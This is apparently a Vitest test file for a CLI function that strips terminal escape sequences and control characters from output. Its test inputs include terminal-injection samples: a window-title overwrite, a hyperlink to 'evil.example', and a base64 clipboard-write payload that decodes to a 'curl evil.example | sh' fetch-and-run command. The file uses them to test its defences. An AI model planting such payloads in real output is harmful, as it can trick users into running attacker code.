import { describe, expect, it } from 'vitest';
import { terminalSafe, terminalSafeDeep } from '../../src/cli/terminal-text.ts';

const ESC = '\u001b';

/** Any C0 but newline and tab, DEL, or C1. */
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe('terminalSafe', () => {
  it('keeps text, newline and tab, and non-ASCII letters', () => {
    expect(terminalSafe('plain text\n\tindented: ä € 😀')).toBe('plain text\n\tindented: ä € 😀');
  });

  it('removes CSI sequences: colours, cursor moves, screen clears, 8-bit CSI', () => {
    expect(terminalSafe(`${ESC}[31mred${ESC}[0m ${ESC}[2J${ESC}[H${ESC}[?25l${ESC}[1;2'zdone`)).toBe('red done');
    expect(terminalSafe('\u009b31mred\u009b0m')).toBe('red');
  });

  it('removes string sequences whole: window title, hyperlinks, clipboard, DCS, with either terminator', () => {
    expect(terminalSafe(`a${ESC}]0;pwned\u0007b`)).toBe('ab');
    expect(terminalSafe(`${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`)).toBe('click');
    expect(terminalSafe(`${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007ok`)).toBe('ok');
    expect(terminalSafe(`${ESC}P+q544e${ESC}\\x`)).toBe('x');
    expect(terminalSafe('\u009d0;title\u009cy')).toBe('y');
    expect(terminalSafe(`${ESC}_apc${ESC}\\${ESC}^pm\u0007${ESC}Xsos\u009cz`)).toBe('z');
  });

  it('removes other escapes (charset, keypad, reset) and every remaining control character', () => {
    expect(terminalSafe(`${ESC}(0q${ESC}(B ${ESC}=${ESC}>${ESC}c${ESC}7${ESC}8.`)).toBe('q .');
    expect(terminalSafe('bell\u0007 nul\u0000 cr\roverwrite bs\u0008 del\u007f nel\u0085 vt\u000b ff\u000c')).toBe(
      'bell nul croverwrite bs del nel vt ff',
    );
  });

  it('leaves no control character whatever is left unterminated or malformed', () => {
    for (const text of [
      `${ESC}]0;no terminator`,
      `${ESC}[`,
      `${ESC}[31`,
      ESC,
      `${ESC}${ESC}[m`,
      '\u009b',
      `${ESC}]${'x'.repeat(10_000)}\u0007`,
    ]) {
      expect(terminalSafe(text)).not.toMatch(CONTROL);
    }
  });

  it('applies to every string of a JSON value, keys included, and leaves the rest alone', () => {
    expect(terminalSafeDeep({ a: `${ESC}[31mx`, [`k${ESC}[0m`]: [1, null, true, { b: 'y\u0007' }] })).toEqual({
      a: 'x',
      k: [1, null, true, { b: 'y' }],
    });
  });
});
